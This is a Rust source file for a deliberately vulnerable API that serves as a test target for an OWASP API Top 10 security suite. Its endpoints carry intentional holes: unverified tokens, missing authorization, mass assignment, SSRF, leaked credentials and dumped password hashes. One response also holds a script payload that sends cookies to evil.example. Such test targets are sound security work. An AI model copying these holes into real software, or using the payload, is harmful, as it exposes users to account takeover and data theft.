//! A deliberately vulnerable API for the OWASP API Security Top 10 (2023) suite
//! (`tests/security/owasp-top10.sh`), in the spirit of VAmPI and crAPI: one classic flaw per
//! risk, each exploitable when the API is called directly. Served by the `sase-vuln-api`
//! binary; never expose it.
//!
//! | risk | endpoint | flaw |
//! |---|---|---|
//! | API1 | `GET /accounts/{id}` | any caller reads any account (no ownership check) |
//! | API2 | `GET /me` | the bearer token's payload is trusted without checking its signature (`alg: none` works) |
//! | API3 | `POST /users` | every property is stored and echoed, `is_admin` included (mass assignment) |
//! | API4 | `GET /search` | unlimited: any number of (expensive) searches |
//! | API5 | `DELETE /users/{id}` | an admin function any authenticated caller may call |
//! | API6 | `POST /signup` | sign-ups without any limit (bot account creation, referral abuse) |
//! | API7 | `POST /fetch` | fetches whatever URL the body's `url` names and returns it (SSRF) |
//! | API8 | `GET /debug/crash` | a 500 with a stack trace and a connection string, no security headers |
//! | API9 | `GET /api/v1/users` | a forgotten old version that dumps every user with password hashes |
//! | API10 | `GET /partner/rates` | relays a compromised partner's answer as is (script in a number field, extra properties) |

use std::collections::BTreeMap;
use std::convert::Infallible;
use std::future::Future;
use std::sync::{Arc, Mutex};

use base64::Engine as _;
use bytes::Bytes;
use http_body_util::{BodyExt as _, Full, Limited};
use hyper::body::Incoming;
use hyper::header::{HeaderValue, CONTENT_TYPE};
use hyper::service::service_fn;
use hyper::{Method, Request, Response, StatusCode};
use hyper_util::rt::{TokioExecutor, TokioIo};
use hyper_util::server::conn::auto;
use serde_json::{json, Value};
use tokio::net::TcpListener;
use tokio::task::JoinSet;

/// Largest request body read.
const MAX_BODY: usize = 1024 * 1024;

/// The API's (careless) state.
#[derive(Default)]
pub struct VulnApi {
    users: Mutex<BTreeMap<String, Value>>,
    signups: Mutex<u64>,
}

fn respond(status: StatusCode, body: &Value) -> Response<Full<Bytes>> {
    let mut resp = Response::new(Full::new(Bytes::from(body.to_string())));
    *resp.status_mut() = status;
    resp.headers_mut()
        .insert(CONTENT_TYPE, HeaderValue::from_static("application/json"));
    resp
}

/// The `sub` of a bearer token, read WITHOUT verifying anything (the API2 flaw).
fn unverified_sub(req: &Request<Incoming>) -> Option<String> {
    let token = req
        .headers()
        .get("authorization")?
        .to_str()
        .ok()?
        .strip_prefix("Bearer ")?;
    let payload = token.split('.').nth(1)?;
    let bytes = base64::engine::general_purpose::URL_SAFE_NO_PAD
        .decode(payload.trim_end_matches('='))
        .ok()?;
    let claims: Value = serde_json::from_slice(&bytes).ok()?;
    claims["sub"].as_str().map(str::to_string)
}

impl VulnApi {
    /// A fresh API with two users.
    pub fn new() -> VulnApi {
        let api = VulnApi::default();
        if let Ok(mut users) = api.users.lock() {
            for (id, name) in [("alice", "Alice"), ("bob", "Bob")] {
                users.insert(
                    id.to_string(),
                    json!({"id": id, "name": name, "email": format!("{id}@vuln.test"),
                           "password_hash": format!("$2b$12${id}hash"), "is_admin": false}),
                );
            }
        }
        api
    }

    /// Answers one request.
    pub async fn handle(&self, req: Request<Incoming>) -> Response<Full<Bytes>> {
        let method = req.method().clone();
        let path = req.uri().path().to_string();
        let sub = unverified_sub(&req);
        let body = match Limited::new(req.into_body(), MAX_BODY).collect().await {
            Ok(b) => b.to_bytes(),
            Err(_) => return respond(StatusCode::PAYLOAD_TOO_LARGE, &json!({"error": "body"})),
        };
        let json_body: Value = serde_json::from_slice(&body).unwrap_or(Value::Null);
        match (&method, path.as_str()) {
            // API1: no ownership check.
            (&Method::GET, p) if p.starts_with("/accounts/") => {
                let id = &p["/accounts/".len()..];
                respond(
                    StatusCode::OK,
                    &json!({"id": id, "owner": id, "iban": format!("BE71 0961 {id}"), "balance": 1000}),
                )
            }
            // API2: the token is decoded, never verified.
            (&Method::GET, "/me") => match sub {
                Some(sub) => respond(
                    StatusCode::OK,
                    &json!({"user": sub, "role": if sub == "admin" { "admin" } else { "user" }}),
                ),
                None => respond(StatusCode::UNAUTHORIZED, &json!({"error": "no token"})),
            },
            // API3: mass assignment.
            (&Method::POST, "/users") => {
                let Some(obj) = json_body.as_object() else {
                    return respond(
                        StatusCode::BAD_REQUEST,
                        &json!({"error": "object expected"}),
                    );
                };
                let mut user = obj.clone();
                let id = format!("u{}", self.users.lock().map(|u| u.len()).unwrap_or(0));
                user.insert("id".into(), json!(id));
                user.entry("is_admin").or_insert(json!(false));
                if let Ok(mut users) = self.users.lock() {
                    users.insert(id, Value::Object(user.clone()));
                }
                respond(StatusCode::CREATED, &Value::Object(user))
            }
            // API4: unlimited.
            (&Method::GET, "/search") => respond(StatusCode::OK, &json!({"results": []})),
            // API5: admin function without a role check.
            (&Method::DELETE, p) if p.starts_with("/users/") => {
                let id = &p["/users/".len()..];
                let removed = self
                    .users
                    .lock()
                    .map(|mut u| u.remove(id).is_some())
                    .unwrap_or(false);
                respond(StatusCode::OK, &json!({"deleted": id, "existed": removed}))
            }
            // API6: unlimited sign-ups.
            (&Method::POST, "/signup") => {
                let n = self
                    .signups
                    .lock()
                    .map(|mut n| {
                        *n += 1;
                        *n
                    })
                    .unwrap_or(0);
                respond(
                    StatusCode::CREATED,
                    &json!({"account": format!("acct-{n}"), "credit": 10}),
                )
            }
            // API7: server-side request forgery.
            (&Method::POST, "/fetch") => {
                let Some(url) = json_body["url"].as_str() else {
                    return respond(StatusCode::BAD_REQUEST, &json!({"error": "url expected"}));
                };
                let client = reqwest::Client::builder()
                    .timeout(std::time::Duration::from_secs(5))
                    .build();
                let answer = match client {
                    Ok(client) => match client.get(url).send().await {
                        Ok(r) => {
                            let status = r.status().as_u16();
                            let text = r.text().await.unwrap_or_default();
                            json!({"fetched": status, "body": text.chars().take(1024).collect::<String>()})
                        }
                        Err(e) => json!({"fetched": null, "error": e.to_string()}),
                    },
                    Err(e) => json!({"error": e.to_string()}),
                };
                respond(StatusCode::OK, &answer)
            }
            // API8: verbose errors, no security headers.
            (&Method::GET, "/debug/crash") => {
                let mut resp = Response::new(Full::new(Bytes::from(
                    "Traceback (most recent call last):\n  File \"/srv/app/views.py\", line 42, in crash\n    db.connect(\"postgres://app:S3cr3t@db.internal:5432/prod\")\npsycopg2.OperationalError: could not connect\n",
                )));
                *resp.status_mut() = StatusCode::INTERNAL_SERVER_ERROR;
                resp.headers_mut()
                    .insert(CONTENT_TYPE, HeaderValue::from_static("text/plain"));
                resp
            }
            // API9: the forgotten v1 dumps everything.
            (&Method::GET, "/api/v1/users") => {
                let users: Vec<Value> = self
                    .users
                    .lock()
                    .map(|u| u.values().cloned().collect())
                    .unwrap_or_default();
                respond(StatusCode::OK, &json!({"users": users}))
            }
            // API10: a compromised partner's answer, relayed as is.
            (&Method::GET, "/partner/rates") => respond(
                StatusCode::OK,
                &json!({"base": "EUR",
                        "rates": {"USD": "<script>fetch('//evil.example/'+document.cookie)</script>"},
                        "redirect": "http://169.254.169.254/latest/meta-data/"}),
            ),
            _ => respond(StatusCode::NOT_FOUND, &json!({"error": "not found"})),
        }
    }
}

/// Serves the API on `listener` until `shutdown` resolves.
pub async fn serve<F>(listener: TcpListener, shutdown: F) -> std::io::Result<()>
where
    F: Future<Output = ()>,
{
    let api = Arc::new(VulnApi::new());
    let mut shutdown = std::pin::pin!(shutdown);
    let mut conns = JoinSet::new();
    loop {
        let (stream, _) = tokio::select! {
            () = &mut shutdown => break,
            Some(_) = conns.join_next(), if !conns.is_empty() => continue,
            accepted = listener.accept() => accepted?,
        };
        let api = api.clone();
        conns.spawn(async move {
            let service = service_fn(move |req| {
                let api = api.clone();
                async move { Ok::<_, Infallible>(api.handle(req).await) }
            });
            let _ = auto::Builder::new(TokioExecutor::new())
                .serve_connection(TokioIo::new(stream), service)
                .await;
        });
    }
    conns.abort_all();
    Ok(())
}
